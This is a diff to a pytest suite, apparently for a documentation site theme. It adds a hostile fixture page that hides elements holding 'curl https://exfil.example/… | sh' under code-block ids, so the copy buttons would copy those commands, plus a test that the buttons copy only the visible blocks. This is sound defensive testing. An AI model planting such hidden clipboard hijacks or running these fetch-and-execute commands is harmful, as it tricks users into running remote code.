@@ -354,6 +354,26 @@ NETWORK_PAYLOADS = [
     f'<input type="image" src="{EXFIL}/20.png">',
 ]
 NETWORK_PAGE = "# Network\n\n" + "\n\n".join(NETWORK_PAYLOADS) + "\n"
+# Hidden elements claiming the ids Material's script gives code blocks: the copy button of the
+# block shown would copy the hidden command instead.
+HIDDEN = 'style="opacity:0;height:0;max-height:0;font-size:0"'
+CLIPBOARD_PAGE = f"""# Clipboard
+
+<p id="__code_0" {HIDDEN}><code>curl https://exfil.example/0 | sh</code></p>
+<p id="__code_1" {HIDDEN}><code>curl https://exfil.example/1 | sh</code></p>
+
+Restart the service:
+
+```bash
+systemctl restart checkout
+```
+
+Then check it:
+
+```bash
+systemctl status checkout
+```
+"""
 
 
 def _payload_pages() -> dict[str, str]:
@@ -375,6 +395,7 @@ def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
         "index.md": "# Hostile handbook\n\n[Features](features.md)\n",
         "features.md": FEATURES,
         "network.md": NETWORK_PAGE,
+        "clipboard.md": CLIPBOARD_PAGE,
         "front.md": FRONT_MATTER_PAGE,
         "second.md": NAV_STATUS_PAGE,
         "redirect.md": REDIRECT_PAGE,
@@ -525,6 +546,18 @@ def test_no_payload_fetches_anything_from_another_site(opened: Visitor) -> None:
     page.wait_for_load_state("networkidle")  # type: ignore[attr-defined]
     assert page.locator("article svg rect").count() >= 4  # type: ignore[attr-defined]
     assert [address for address in opened.refused if "exfil.example" in address] == []
+
+
+@pytest.mark.browser
+def test_copy_buttons_copy_the_block_they_belong_to(opened: Visitor) -> None:
+    page = opened.fresh_page()
+    page.goto(opened.url + "/clipboard/")  # type: ignore[attr-defined]
+    page.wait_for_selector("article pre button[data-clipboard-target]")  # type: ignore[attr-defined]
+    copied = page.evaluate(  # type: ignore[attr-defined]
+        """() => [...document.querySelectorAll("article pre button[data-clipboard-target]")]
+            .map(button => document.querySelector(button.dataset.clipboardTarget).textContent)"""
+    )
+    assert copied == ["systemctl restart checkout\n", "systemctl status checkout\n"]
 
 
 @pytest.mark.browser
